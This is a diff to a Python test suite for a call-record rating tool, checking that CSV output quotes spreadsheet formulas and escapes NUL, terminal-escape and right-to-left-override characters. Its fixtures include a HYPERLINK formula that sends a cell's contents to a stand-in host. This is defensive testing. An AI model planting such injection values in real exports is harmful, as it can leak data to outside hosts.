@@ -111,7 +111,8 @@ def test_the_bulk_api_refuses_too(demo, calls, tmp_path):
 # --- 2. formulas in CSV output ---------------------------------------------------------------
 LINK = '=HYPERLINK("http://x.example/?"&A2,"details")'
 NOTES = [LINK, "-5", "@SUM(A1)", "'=x", "+1", "-12.50", "\tTAB", "plain"]
-QUOTED = ["'" + LINK, "-5", "'@SUM(A1)", "''=x", "+1", "-12.50", "'\tTAB", "plain"]
+# A pass-through tab is escaped as a control character (``cdr.bytes_as_text``), no formula then.
+QUOTED = ["'" + LINK, "-5", "'@SUM(A1)", "''=x", "+1", "-12.50", "\\tTAB", "plain"]
 
 
 def csv_rows(path) -> list[dict]:
@@ -180,8 +181,10 @@ def test_readers_of_a_rated_csv_get_the_text_as_given(demo, formulas, capsys, tm
     quote: the same table as from the Parquet file, text for text."""
     a = cdr.read_rated(formulas["full.csv"]).sort_by("row")
     b = cdr.read_rated(formulas["full.parquet"]).sort_by("row")
-    for name in ("call_id", "note", "caller", "account", "file"):
+    for name in ("call_id", "caller", "account", "file"):
         assert a.column(name).to_pylist() == b.column(name).to_pylist(), name
+    # A pass-through control character (the note's tab) is escaped in the CSV, as given in Parquet.
+    assert a.column("note").to_pylist() == cdr.bytes_as_text(b.column("note")).to_pylist()
     assert a.column("charge_minor").to_pylist() == b.column("charge_minor").to_pylist()
     code, out, err = cli(capsys, "explain", "=1+1", "--store", demo / "store", "--rated", formulas["full.csv"],
                          "--json")
@@ -231,6 +234,38 @@ def test_a_binary_pass_through_column_is_never_raw_bytes_in_the_csv(demo, calls,
                        "--pass-through")
     assert code == 0 and pq.read_table(tmp_path / "o.parquet").sort_by("row").column("blob").to_pylist()[:2] == [
         b"\x00=1", b"\xff\xfeab"], err
+
+
+def test_a_text_pass_through_column_is_never_raw_control_characters_in_the_csv(demo, calls, tmp_path, capsys):
+    """Hostile-input round: a text (not binary) pass-through column holding
+    a NUL or an escape was written raw into the rated CSV. Written as a
+    binary column is (``cdr.bytes_as_text``); Parquet output keeps the text."""
+    note = pa.array(["a\x00b", "\x1b[2J", "\u202eevil", "plain", None] * 4, pa.string())
+    for src in (tmp_path / "text.parquet", tmp_path / "text.csv"):
+        (pq.write_table if src.suffix == ".parquet" else pacsv.write_csv)(with_columns(calls, note=note), src)
+        out = tmp_path / "out.csv"
+        code, _, err = cli(capsys, "rate", src, "--store", demo / "store", "--out", out, "--pass-through")
+        assert code == 0, err
+        raw = out.read_bytes()
+        assert b"\x00" not in raw and b"\x1b" not in raw and "\u202e".encode() not in raw
+        got = cdr.read_rated(out).sort_by("row").column("note").to_pylist()
+        assert got[:5] == ["a\\x00b", "\\x1b[2J", "\\u202eevil", "plain", None], got[:5]
+    code, _, err = cli(capsys, "rate", tmp_path / "text.parquet", "--store", demo / "store", "--out",
+                       tmp_path / "o.parquet", "--pass-through")
+    assert code == 0 and pq.read_table(tmp_path / "o.parquet").sort_by("row").column("note").to_pylist()[:2] == [
+        "a\x00b", "\x1b[2J"], err
+
+
+@pytest.mark.parametrize("suffix", [".csv", ".parquet"])
+def test_a_pass_through_column_without_a_name_is_refused_naming_its_position(demo, calls, tmp_path, capsys, suffix):
+    src = tmp_path / f"unnamed{suffix}"
+    t = with_columns(calls, **{"": "x"})
+    (pq.write_table if suffix == ".parquet" else pacsv.write_csv)(t, src)
+    code, _, err = cli(capsys, "rate", src, "--store", demo / "store", "--out", tmp_path / "o.csv", "--pass-through")
+    assert code == 2 and f"with --pass-through, column {t.num_columns} has no name" in err, err
+    # Without --pass-through the column is not read: nothing to refuse.
+    code, _, err = cli(capsys, "rate", src, "--store", demo / "store", "--out", tmp_path / "o.csv")
+    assert code == 0, err
 
 
 def test_the_cell_rule_is_undone_exactly():
